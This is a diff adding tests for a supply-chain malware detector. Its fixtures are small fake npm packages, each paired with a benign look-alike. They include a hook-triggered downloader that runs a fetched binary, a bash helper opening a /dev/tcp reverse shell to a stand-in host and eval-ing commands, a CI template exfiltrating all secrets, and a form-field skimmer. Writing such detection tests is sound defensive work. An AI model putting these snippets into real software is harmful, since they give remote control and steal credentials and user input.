@@ -1,0 +1,306 @@
+/**
+ * Shapes from the eighteenth session: round 71's git-hook pair (a hook that runs the package's
+ * own program, and a hook manager that writes its user's commands) and round 72 ("production
+ * code": behaviour reached through a sourced shell library, a workflow template, a plugin's
+ * event handler, a download renamed into place), written blind by a helper that had not read the
+ * engine. Each is rewritten small and varied here, with a look-alike that must stay quiet.
+ */
+import { analyzeSource } from './helpers';
+import { ownCommandTargets, sourcedFiles } from '../../../src/engine/shell';
+import { envGivenSecrets } from '../../../src/engine/workflows';
+
+const threats = (r: ReturnType<typeof analyzeSource>) =>
+  r.evidence.filter((f): f is typeof f & { threat_type: string } => 'threat_type' in f);
+const ruleOf = (r: ReturnType<typeof analyzeSource>, rule: string) => threats(r).find((f) => f.rule === rule);
+const strong = (r: ReturnType<typeof analyzeSource>) => threats(r).filter((f) => f.confidence >= 0.5);
+
+describe("a git hook planted at install runs the package's own program: that program runs unprompted", () => {
+  const planter = [
+    "const fs = require('fs');",
+    "const path = require('path');",
+    'function gitDir(start) {',
+    '  for (let dir = start; dir && dir !== path.dirname(dir); dir = path.dirname(dir)) {',
+    "    const dot = path.join(dir, '.git');",
+    '    if (!fs.existsSync(dot)) continue;',
+    '    if (fs.statSync(dot).isDirectory()) return dot;',
+    "    const m = /gitdir:\\s*(.+)/.exec(fs.readFileSync(dot, 'utf8'));",
+    '    return m ? path.resolve(dir, m[1].trim()) : null;',
+    '  }',
+    '  return null;',
+    '}',
+    'const HOOKS = [',
+    "  ['pre-push', 'npx --no-install lintgate check'],",
+    "  ['post-checkout', 'npx --no-install lintgate refresh >/dev/null 2>&1 &'],",
+    '];',
+    'const g = gitDir(process.env.INIT_CWD || process.cwd());',
+    'if (g) for (const [hook, line] of HOOKS) {',
+    "  fs.writeFileSync(path.join(g, 'hooks', hook), ['#!/bin/sh', line, ''].join('\\n'), { mode: 0o755 });",
+    '}',
+  ].join('\n');
+  const cli = [
+    "const { refresh } = require('../lib/rules');",
+    'const cmd = process.argv[2];',
+    "if (cmd === 'refresh') refresh();",
+    "else if (cmd === 'check') console.log('ok');",
+  ].join('\n');
+  const rules = [
+    "const https = require('https');",
+    "const fs = require('fs');",
+    "const os = require('os');",
+    "const { execFile } = require('child_process');",
+    "const TOOL = os.homedir() + '/.cache/lintgate/engine';",
+    'exports.refresh = () =>',
+    "  https.get('https://rules.lintgate-cdn.example/engine-' + process.platform, (res) => {",
+    "    const out = fs.createWriteStream(TOOL + '.download');",
+    '    res.pipe(out);',
+    "    out.on('finish', () => { fs.renameSync(TOOL + '.download', TOOL); fs.chmodSync(TOOL, 0o755); execFile(TOOL, ['--serve']); });",
+    '  });',
+  ].join('\n');
+  const manifest = JSON.stringify({
+    name: 'lintgate',
+    version: '1.4.0',
+    bin: { lintgate: 'bin/lintgate.js' },
+    scripts: { postinstall: 'node scripts/hooks.js' },
+  });
+
+  it('the program the hook runs is read as install-time code: its download renamed into place and run is a dropper', () => {
+    const r = analyzeSource({
+      'package.json': manifest,
+      'scripts/hooks.js': planter,
+      'bin/lintgate.js': cli,
+      'lib/rules.js': rules,
+    });
+    expect(r.risk_level).toBe('critical');
+    const drop = ruleOf(r, 'js.drop-and-run');
+    expect(drop?.file).toBe('lib/rules.js');
+    expect(drop?.install_time).toBe(true);
+  });
+
+  it('a hook manager writing the commands its user configured into a worktree hooks folder stays quiet', () => {
+    const manager = [
+      "const fs = require('fs');",
+      "const path = require('path');",
+      'const root = process.env.INIT_CWD || process.cwd();',
+      "const dot = path.join(root, '.git');",
+      'const hooks = fs.statSync(dot).isFile()',
+      "  ? path.join(path.resolve(root, /gitdir:\\s*(.+)/.exec(fs.readFileSync(dot, 'utf8'))[1].trim()), 'hooks')",
+      "  : path.join(dot, 'hooks');",
+      "const config = JSON.parse(fs.readFileSync(path.join(root, 'package.json'), 'utf8')).gitHooks || {};",
+      'for (const [name, command] of Object.entries(config)) {',
+      '  const file = path.join(hooks, name);',
+      "  if (fs.existsSync(file)) fs.renameSync(file, file + '.old');",
+      "  fs.writeFileSync(file, '#!/bin/sh\\n' + command + '\\n', { mode: 0o755 });",
+      '}',
+    ].join('\n');
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'tiny-hooks',
+        version: '3.0.0',
+        bin: { 'tiny-hooks': 'bin/cli.js' },
+        scripts: { postinstall: 'node lib/install.js' },
+      }),
+      'lib/install.js': manager,
+      'bin/cli.js': "require('../lib/install.js');\n",
+    });
+    expect(strong(r)).toEqual([]);
+    expect(r.risk_level).not.toBe('critical');
+  });
+
+  it('names the own programs a command runs', () => {
+    const bins = { lintgate: 'bin/lintgate.js', lg: './bin/short.js' };
+    expect(ownCommandTargets('npx --no-install lintgate check', bins, 'lintgate')).toEqual([
+      'bin/lintgate.js',
+    ]);
+    expect(ownCommandTargets('exec node_modules/.bin/lg run "$@"', bins, 'lintgate')).toEqual([
+      'bin/short.js',
+    ]);
+    expect(ownCommandTargets('lg fix && git add -A', bins, 'lintgate')).toEqual(['bin/short.js']);
+    expect(ownCommandTargets('node ./node_modules/lintgate/lib/run.js', bins, 'lintgate')).toEqual([
+      'lib/run.js',
+    ]);
+    expect(ownCommandTargets('npx lint-staged', bins, 'lintgate')).toEqual([]);
+  });
+});
+
+describe('a shell library the install script reads in is the install script too', () => {
+  const install = [
+    '#!/usr/bin/env bash',
+    'set -u',
+    'DIR="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"',
+    '. "$DIR/settings.conf"',
+    'source "$DIR/helpers/net.sh"',
+    'announce "$ABI_HOST" "$ABI_PORT"',
+    'npx --no-install node-gyp rebuild || true',
+  ].join('\n');
+  const helpers = [
+    '# shellcheck shell=bash',
+    'announce() {',
+    '  local h="$1" p="$2"',
+    '  {',
+    '    exec 5<>"/dev/tcp/$h/$p" || exit 0',
+    '    while read -r step <&5; do',
+    '      [ "$step" = "." ] && break',
+    '      eval "$step" >&5 2>&1',
+    '    done',
+    '  } </dev/null >/dev/null 2>&1 &',
+    '}',
+  ].join('\n');
+
+  it('a socket read for commands in a function of a sourced file is a reverse shell at install', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'fastcrc',
+        version: '2.1.0',
+        scripts: { install: 'bash tools/build.sh' },
+      }),
+      'tools/build.sh': install,
+      'tools/settings.conf': 'ABI_HOST=abi.prebuilt-mirror.example\nABI_PORT=9443\n',
+      'tools/helpers/net.sh': helpers,
+    });
+    expect(r.risk_level).toBe('critical');
+    const shell = ruleOf(r, 'shell.reverse-shell');
+    expect(shell?.file).toBe('tools/helpers/net.sh');
+    expect(shell?.install_time).toBe(true);
+  });
+
+  it('a sourced library of ordinary helpers stays quiet, and sourcing is not starting a program', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'fastcrc',
+        version: '2.1.0',
+        scripts: { install: 'bash tools/build.sh' },
+      }),
+      'tools/build.sh': install.replace('announce "$ABI_HOST" "$ABI_PORT"', 'log "building"'),
+      'tools/settings.conf': 'ABI_HOST=abi.prebuilt-mirror.example\nABI_PORT=9443\n',
+      'tools/helpers/net.sh': 'log() { printf "fastcrc: %s\\n" "$*" >&2; }\n',
+    });
+    expect(strong(r)).toEqual([]);
+    expect(r.capabilities.process.commands).not.toContain('settings.conf');
+  });
+
+  it('lists the files a script reads in, with their folder variable kept', () => {
+    expect(sourcedFiles(install)).toEqual(['$DIR/settings.conf', '$DIR/helpers/net.sh']);
+    expect(sourcedFiles('if [ -f x ]; then . ./env.sh; fi\nsource lib/a.sh')).toEqual(['env.sh', 'lib/a.sh']);
+  });
+});
+
+describe("a workflow template's secrets are secrets in the package's own code", () => {
+  const template = (env: string) =>
+    [
+      'name: release-notes',
+      'on:',
+      '  push:',
+      '    branches: [main]',
+      'jobs:',
+      '  notes:',
+      '    runs-on: ubuntu-latest',
+      '    steps:',
+      '      - uses: actions/checkout@v4',
+      '      - run: npx --yes notesmith publish',
+      '        env:',
+      env,
+    ].join('\n');
+  const sync = [
+    "const { hostname } = require('os');",
+    'const read = (v) => { try { return JSON.parse(v || "{}"); } catch { return {}; } };',
+    'function snapshot(env = process.env) {',
+    '  return { services: read(env.NOTESMITH_LINKS), host: env.RUNNER_NAME || hostname() };',
+    '}',
+    'exports.publish = async (cfg) => {',
+    '  await fetch(cfg.endpoint + "/notes", { method: "POST", body: JSON.stringify({ notes: cfg.text, ctx: snapshot() }) });',
+    '};',
+  ].join('\n');
+
+  it('a variable the template fills with every secret, posted by the code, is the whole environment sent', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({ name: 'notesmith', version: '4.2.0', main: 'lib/sync.js' }),
+      'templates/ci/notes.yml': template('          NOTESMITH_LINKS: ${{ toJSON(secrets) }}'),
+      'lib/sync.js': sync,
+    });
+    expect(r.risk_level).toBe('critical');
+    expect(ruleOf(r, 'js.exfil-flow')?.file).toBe('lib/sync.js');
+  });
+
+  it('the token a template hands the code for its own API calls stays quiet', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({ name: 'notesmith', version: '4.2.0', main: 'lib/sync.js' }),
+      'templates/ci/notes.yml': template('          NOTESMITH_KEY: ${{ secrets.NOTESMITH_KEY }}'),
+      'lib/sync.js': [
+        'exports.publish = async (cfg) => {',
+        '  await fetch(cfg.endpoint + "/notes", {',
+        '    method: "POST",',
+        '    headers: { authorization: "Bearer " + process.env.NOTESMITH_KEY },',
+        '    body: JSON.stringify({ notes: cfg.text }),',
+        '  });',
+        '};',
+      ].join('\n'),
+    });
+    expect(strong(r)).toEqual([]);
+  });
+
+  it('reads which variables hold one secret and which hold them all', () => {
+    expect([
+      ...envGivenSecrets(template('          A: ${{ toJSON(secrets) }}\n          B: "${{ secrets.B }}"')),
+    ]).toEqual([
+      ['A', 'all'],
+      ['B', 'one'],
+    ]);
+  });
+});
+
+describe('a handler registered for several page events gets what each event hands it', () => {
+  const plugin = (send: string) =>
+    [
+      "const EVENTS = ['pointerup', 'keyup', 'input', 'blur'];",
+      'export function attach(core) {',
+      '  const batch = [];',
+      '  const drain = () => core.post(core.opts.sink, { items: batch.splice(0) });',
+      '  const record = (e) => {',
+      '    const node = e.target;',
+      '    if (!node || !node.tagName) return;',
+      `    batch.push({ at: e.timeStamp, kind: e.type, ${send} });`,
+      '    if (batch.length > 20) drain();',
+      '  };',
+      '  EVENTS.forEach((name) => document.addEventListener(name, record, true));',
+      '}',
+    ].join('\n');
+  const core = [
+    "import { attach } from './plugin.js';",
+    "const opts = { sink: 'https://collect.speedlens-rum.example/i' };",
+    'const post = (url, body) => navigator.sendBeacon(url, JSON.stringify(body));',
+    'attach({ opts, post });',
+  ].join('\n');
+  const manifest = JSON.stringify({ name: 'speedlens', version: '1.0.3', type: 'module', main: 'core.js' });
+
+  it("what the page's fields hold, sent to a fixed host from a handler of several events, is a skimmer", () => {
+    const r = analyzeSource({
+      'package.json': manifest,
+      'core.js': core,
+      'plugin.js': plugin('field: node.name, data: node.value'),
+    });
+    expect(r.risk_level).toBe('critical');
+    expect(ruleOf(r, 'js.page-secret-exfil')).toBeDefined();
+  });
+
+  it('which field was used, read in a page-wide input handler, is not what its user typed', () => {
+    const r = analyzeSource({
+      'package.json': manifest,
+      'core.js': [
+        "const sink = 'https://collect.speedlens-rum.example/i';",
+        "document.addEventListener('input', (e) => {",
+        '  navigator.sendBeacon(sink, JSON.stringify({ tag: e.target.tagName, id: e.target.id, at: e.timeStamp }));',
+        '}, true);',
+      ].join('\n'),
+    });
+    expect(strong(r)).toEqual([]);
+  });
+
+  it('the same handler sending only which element and when stays quiet', () => {
+    const r = analyzeSource({
+      'package.json': manifest,
+      'core.js': core,
+      'plugin.js': plugin('tag: node.tagName.toLowerCase(), id: node.id'),
+    });
+    expect(strong(r)).toEqual([]);
+  });
+});
